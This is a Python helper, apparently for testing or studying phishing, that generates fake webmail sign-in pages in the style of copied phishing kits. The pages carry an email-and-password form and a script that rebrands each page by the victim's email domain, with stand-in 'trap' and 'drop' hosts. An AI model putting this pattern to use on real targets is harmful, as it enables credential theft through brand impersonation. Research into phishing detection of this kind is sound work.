"""How the pages of this half are written: one document with a script at its end, as copied kits have it."""

TRAP = "https://update.victim-site.test"
DROP = "https://collect.example.net"

BODY = (
    "<div id=logo></div><h1>Sign in</h1><form method=post action=next.php>"
    "<input type=email id=login name=login placeholder=E-mail>"
    "<input type=password id=secret name=secret placeholder=Password><button>Sign in</button></form>"
)
PAINT = """
var mine={'gmail.com':'Provider A','googlemail.com':'Provider A','outlook.com':'Provider B',
'hotmail.com':'Provider B','live.com':'Provider B'};
var tint={'Provider A':'#dfe9ff','Provider B':'#e2f5e4'};
function called(who){var d=(who||'').split('@')[1];return d?mine[d]||d+' Webmail':'Mail'}
function paint(who,name){name=name||called(who);document.title=name+' sign-in';
document.querySelector('h1').textContent='Sign in to '+name;
if(document.getElementById('login'))document.getElementById('login').value=who||'';
document.body.style.background=tint[name]||'#f4f4f4'}
"""


def page(title: str = "", body: str = BODY, script: str = "", head: str = "") -> str:
    """A document."""
    code = f"<script>{script}</script>" if script else ""
    return (
        f"<!doctype html><html><head><meta charset=utf-8><title>{title}</title>{head}"
        f"<style>body{{font:16px sans-serif;margin:3em}}input,button{{display:block;margin:.6em 0;padding:.5em}}"
        f"</style></head><body>{body}{code}</body></html>"
    )


def told(source: str, read: str = "s") -> str:
    """A script that takes the address out of `source` (an expression) and paints the page for it."""
    return f"{PAINT}var s={source};var who=s?{read}:'';paint(who);"


def painted(name: str, tint: str = "#eeeeff", login: str = "") -> str:
    """The page as a server paints it."""
    return page(
        f"{name} sign-in",
        BODY.replace("<h1>Sign in", f"<h1>Sign in to {name}").replace(
            "placeholder=E-mail", f"value='{login}'"
        ),
        head=f"<style>body{{background:{tint}}}</style>",
    )
